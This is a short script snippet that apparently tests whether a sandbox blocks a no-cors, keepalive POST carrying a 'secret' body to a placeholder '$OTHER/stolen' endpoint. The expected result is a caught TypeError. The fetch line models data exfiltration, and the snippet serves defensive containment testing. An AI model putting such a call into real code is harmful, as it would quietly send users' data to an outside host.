// says: kept in TypeError
try {
  await fetch('$OTHER/stolen/no-cors', { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true });
  console.log('escaped');
} catch (e) {
  console.log('kept in', (e as Error).name);
}
